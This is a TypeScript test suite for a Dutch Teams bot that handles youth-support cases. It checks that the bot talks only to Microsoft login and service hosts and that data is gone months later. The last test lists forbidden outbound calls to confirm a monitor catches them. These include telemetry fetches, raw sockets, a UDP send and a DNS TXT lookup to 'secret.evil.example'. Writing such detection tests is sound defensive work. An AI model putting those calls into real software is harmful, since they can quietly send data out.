import { execFile } from 'node:child_process'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import { type BotProcess, startProcess, storeFolder } from '#support/bot-process.ts'
import { appId } from '#support/door/keys.ts'
import { type Microsoft, secret, startMicrosoft } from '#support/door/microsoft.ts'
import { cardIn } from '#support/in-the-channel.ts'
import { needs } from '#support/needs.ts'
import { pupil, raise } from '#support/raise.ts'
import { homeTenant } from '#support/teams/cast.ts'
import { moment } from '#support/time.ts'

const { missing, how } = needs('openssl')

/** `npm start` as in production, before Microsoft under its real names: every way out of the process is written down. */

let microsoft: Microsoft
beforeEach(async () => void (microsoft = await startMicrosoft()))
afterEach(() => microsoft.close())

async function registered(): Promise<BotProcess> {
  const { path, remove } = storeFolder()
  const bot = await startProcess(path, {
    ...microsoft.env,
    SEINHUIS_CLOCK: '',
    MicrosoftAppId: appId,
    MicrosoftAppPassword: secret,
    MicrosoftAppTenantId: homeTenant,
    SEINHUIS_TENANTS: homeTenant,
    SEINHUIS_KEY: Buffer.alloc(32, 7).toString('base64'),
  })
  onTestFinished(async () => {
    await bot.kill()
    remove()
  })
  await microsoft.botAt(bot.url)
  return bot
}

const hosts = ['login.botframework.com', 'login.microsoftonline.com', 'smba.trafficmanager.net']

describe.skipIf(missing)(`in its whole life${how}`, () => {
  it('the bot speaks with the platform and its login, with nobody else, and makes nothing that thinks', async () => {
    microsoft.at(moment('2026-11-23 10:00'))
    const bot = await registered()
    const { teams, at } = microsoft
    const person = (account: string, name: string) => teams.person(account, { name })
    const anna = person('anna@carmel.example', 'Anna')
    const bram = person('bram@wijkracht.example', 'Bram')
    const carla = person('carla@oldenzaal.example', 'Carla')
    const youth = teams.channel('18-', [anna, bram, carla])
    await youth.mention(carla, 'koppel oldenzaal-18min')

    const { reference } = await raise(anna, pupil)
    await expect.poll(() => JSON.stringify(youth.cards())).toContain('Ik pak dit op')
    expect(cardIn(youth)).toContain(reference)
    await bram.presses('Ik pak dit op', { in: youth })
    await expect.poll(() => JSON.stringify(bram.card())).toContain('"Begin"')
    await bram.presses('Begin')
    await expect.poll(() => cardIn(youth)).toContain('ACTIE LOOPT')

    // Both tokens and all keys are too old by now; somebody is reminded of what should be done today.
    const told = () => bram.sees().join('\n')
    at(moment('2026-11-30 15:35'))
    const before = told().length
    await expect.poll(() => told().length).toBeGreaterThan(before)

    await bram.presses('Klaar')
    await bram.presses('Klaar', { inputs: { outcome: 'done', spokenWith: 'parents,child' } })
    await bram.presses('Details', { in: youth })
    await bram.presses('Sluit af', { in: youth })
    await bram.presses('Verder', { inputs: { closingReason: 'general-support', knownBefore: 'no' } })
    await bram.presses('Sluit af', { inputs: { who: 'de sportclub' } })
    await expect.poll(() => cardIn(youth)).toContain('is afgesloten')

    // Half a year later nothing of it is left.
    at(moment('2027-08-03 12:00'))
    const asked = async () => (await carla.says(`inzage ${reference}`)).join()
    await expect.poll(asked, { interval: 300 }).toContain('geen gegevens')

    expect(await bot.kill('SIGTERM')).toBe(0)
    expect(microsoft.ways()).toEqual(hosts.map((host) => `connect ${host}:443`))
    expect(microsoft.entra.given.length).toBeGreaterThan(1)
    expect(microsoft.keys.asked()).toBeGreaterThan(1)
  })
})

it.skipIf(missing)(
  `a managed identity gets its token from the cloud it is in, and nowhere else${how}`,
  async () => {
    const { pathname } = new URL('../../src/adapters/teams/credentials.ts', import.meta.url)
    const identity = { appId, tenantId: homeTenant, proof: { managed: true }, serviceHosts: [hosts[2]] }
    const words = `import { credentials } from '${pathname}'
    const own = await credentials(${JSON.stringify(identity)}, 'https://login.microsoftonline.com', 4_000).createCredentials()
    const request = { url: 'https://${hosts[2]}/v3/', headers: new Headers() }
    console.log((await own.signRequest(request)).headers.get('authorization'))`
    const { stdout } = await promisify(execFile)(process.execPath, ['--input-type=module', '-e', words], {
      env: { PATH: process.env['PATH'], ...microsoft.env },
    })
    expect(stdout).toBe(`Bearer ${microsoft.entra.given[0]}\n`)
    expect(microsoft.entra.asked).toEqual(['managed'])
    expect(microsoft.ways()).toEqual(['connect 169.254.169.254:80'])
  },
)

const others = [
  ["fetch('https://telemetry.example/')", 'connect telemetry.example:443'],
  ["require('https').get('https://statistics.example/')", 'connect statistics.example:443'],
  ["require('http').get('http://10.0.0.1/')", 'connect 10.0.0.1:80'],
  ["require('net').connect(4317, 'collector.example')", 'connect collector.example:4317'],
  ["require('net').connect('/run/agent.sock')", 'connect /run/agent.sock'],
  ["require('http2').connect('https://otlp.example')", 'connect otlp.example:443'],
  ["require('dns').resolveTxt('secret.evil.example', () => 0)", 'dns resolveTxt'],
  ["require('dgram').createSocket('udp4').send('x', 8125, '10.0.0.1')", 'datagram send'],
  ["require('child_process').execFile('true')", 'program execFile'],
  ["new (require('@microsoft/teams-ai/lib/AI').AI)({ planner: {} })", 'ai AI'],
  ["require('@microsoft/teams-ai/lib/planners')", expect.stringMatching(/^ai .*planners/)],
]

it.skipIf(missing)(`another way out would be seen${how}`, async () => {
  const quiet = "process.on('uncaughtException', () => 0); process.on('unhandledRejection', () => 0)"
  const tries = others.map(([words]) => `try { ${words} } catch {}`)
  const end = 'setTimeout(() => process.exit(), 50)'
  await promisify(execFile)(process.execPath, ['-e', [quiet, ...tries, end].join(';')], {
    cwd: join(import.meta.dirname, '../..'),
    env: { PATH: process.env['PATH'], ...microsoft.env },
  })
  for (const [, way] of others) expect(microsoft.ways()).toContainEqual(way)
})
